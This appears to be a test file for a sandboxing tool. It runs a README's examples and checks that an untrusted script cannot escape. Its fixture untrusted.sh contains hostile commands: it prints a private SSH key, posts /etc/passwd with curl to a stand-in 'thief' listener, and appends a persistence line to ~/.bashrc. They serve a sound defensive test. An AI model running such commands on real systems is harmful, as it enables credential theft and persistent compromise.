# SPDX-License-Identifier: GPL-2.0-or-later
"""The examples of the README, each run as it stands there: what it prints has to be what
the README says, with anything in the place of `…`."""

import os
import re
import socket
import sys
from pathlib import Path

from support import LIMIT

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE / "examples"))

import registry  # noqa: E402

PROJECT = {
    "hello.c": '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n',
    "Makefile": "hello: hello.c\n\tcc -O2 -o hello hello.c\n"
                "install: hello\n\tcp hello /usr/local/bin/hello\n",
    "test_things.py": """
import http.server, os, tempfile, threading, unittest, urllib.request
class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_):
        pass
class Things(unittest.TestCase):
    def test_temporary_files(self):
        with tempfile.NamedTemporaryFile() as file:
            self.assertEqual(file.write(b"x"), 1)
    def test_a_server_on_the_loopback(self):
        server = http.server.HTTPServer(("127.0.0.1", 0), Quiet)
        threading.Thread(target=server.handle_request).start()
        answer = urllib.request.urlopen(f"http://127.0.0.1:{server.server_port}/hello.c")
        self.assertEqual(answer.status, 200)
        server.server_close()
    def test_children(self):
        self.assertEqual(os.system("exit 3"), 3 << 8)
""",
    "untrusted.sh": """
cat ~/.ssh/id_ed25519
curl -sS --data @/etc/passwd http://127.0.0.1:8124/
echo 'sh ~/.hidden &' >>~/.bashrc
echo "still here"
""",
    "package.json": '{"name": "app", "version": "1.0.0"}\n',
}


def examples():
    """Title -> [(command, [line of output...])...] of the README's part on them."""
    text = (HERE.parents[1] / "README.md").read_text(encoding="utf-8")
    part = text.partition("\n## Examples\n")[2].partition("\n## ")[0]
    found, title = {}, None
    for line in part.splitlines():
        if line.startswith("**"):
            title = line.strip("*").split("**")[0].rstrip(".")
            found[title] = []
        elif line.startswith("    $ "):
            found[title].append((line[6:], []))
        elif line.startswith("    "):
            found[title][-1][1].append(line[4:])
    return found


class Stage:
    """A project, a home with a key in it, a registry, and whom a thief would call."""

    def __init__(self, place):
        self.home, self.work = place.directory / "home", place.directory / "project"
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".ssh/id_ed25519").write_text("SECRET")
        (self.home / ".bashrc").write_text("")
        self.work.mkdir()
        for name, content in PROJECT.items():
            (self.work / name).write_text(content)
        self.registry, self.thief = registry.serve(), socket.create_server(("127.0.0.1", 0))
        self.thief.setblocking(False)
        thief = self.thief.getsockname()[1]
        self.ports = {"8123": str(self.registry.server_port), "8124": str(thief)}
        script = self.work / "untrusted.sh"
        script.write_text(self.with_ports(script.read_text()))
        (place.directory / "bin").mkdir()
        (place.directory / "bin/lxrun").symlink_to(place.lxrun)
        self.environment = {**os.environ, "HOME": str(self.home), "HOME_PORT": str(thief),
                            "PATH": f"{place.directory}/bin:{os.environ['PATH']}", "LC_ALL": "C.UTF-8"}

    def with_ports(self, text):
        return re.sub("|".join(self.ports), lambda match: self.ports[match[0]], text)

    def is_untouched(self):
        try:
            self.thief.accept()
            return False
        except BlockingIOError:
            return (self.home / ".bashrc").read_text() == "" and \
                not Path("/usr/local/bin/hello").exists()

    def close(self):
        self.registry.shutdown()
        self.registry.server_close()
        self.thief.close()


def pattern_of(lines):
    return "".join(".*".join(re.escape(part) for part in line.split("…")) + "\n" for line in lines)


def run_example(place, title):
    stage = Stage(place)
    try:
        for command, lines in examples()[title]:
            done = place.finish(["sh", "-c", f"exec 2>&1; {stage.with_ports(command)}"],
                                cwd=stage.work, env=stage.environment)
            pattern = pattern_of([stage.with_ports(line) for line in lines])
            told = done.stdout.replace("\n\n", "\n")
            assert re.fullmatch(pattern, told), (command, told, pattern)
            assert "SECRET" not in done.stdout, done.stdout
        assert stage.is_untouched(), title
    finally:
        stage.close()


def a_package_is_installed(place):
    run_example(place, "Install a package")


def a_project_is_built(place):
    run_example(place, "Build a project")


def tests_are_run(place):
    run_example(place, "Run tests")


def an_untrusted_script_gets_nowhere(place):
    run_example(place, "Run what you do not trust")


def each_example_is_run(place):
    del place
    assert sorted(examples()) == ["Build a project", "Install a package", "Run tests",
                                  "Run what you do not trust"], list(examples())
    assert all(len(example) > 0 for example in examples().values()) and LIMIT > 0
